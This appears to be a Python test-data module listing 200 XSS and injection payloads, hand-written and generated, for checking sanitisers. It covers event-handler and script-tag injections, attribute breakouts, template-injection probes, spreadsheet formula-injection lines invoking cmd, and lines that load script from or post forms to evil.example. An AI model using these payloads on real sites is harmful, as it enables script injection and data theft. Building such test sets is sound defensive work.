"""200 texts that would run something on a page that trusted them: by hand, and by combination."""

from collections.abc import Sequence
from itertools import islice, product

BY_HAND = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<form action=//evil.example/><input name=a><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="jav\tascript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)",
    "javascript://%0aalert(1)",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "';alert(1)//",
    '";alert(1)//',
    '\\";alert(1)//',
    "{{7*7}}",
    "{{config}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u200bscript>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "<mark onclick=alert(1)>x</mark>",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
PREFIXES = ("", '">', "'>", "</p>", "</a>", "</mark>", "</svg>", "</option></select>", "-->")
TAGS = ("img src=x", "svg", "input autofocus", "details open", "video src=x", "p tabindex=0")
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationend")


def _combined() -> tuple[str, ...]:
    every = (
        f"{prefix}<{tag} {handler}=alert(1)>"
        for handler, tag, prefix in product(HANDLERS, TAGS, PREFIXES)
    )
    # Every second one: neighbours differ in the prefix alone.
    return tuple(islice(every, 0, None, 2))


PAYLOADS = tuple(dict.fromkeys((*BY_HAND, *_combined())))[:200]


def together(payloads: Sequence[str], longest: int) -> tuple[str, ...]:
    """Return the texts one after the other, as many at a time as fit into `longest` characters."""
    texts = [payloads[0]]
    for payload in payloads[1:]:
        if len(texts[-1]) + 1 + len(payload) <= longest:
            texts[-1] += f" {payload}"
        else:
            texts.append(payload)
    return tuple(texts)
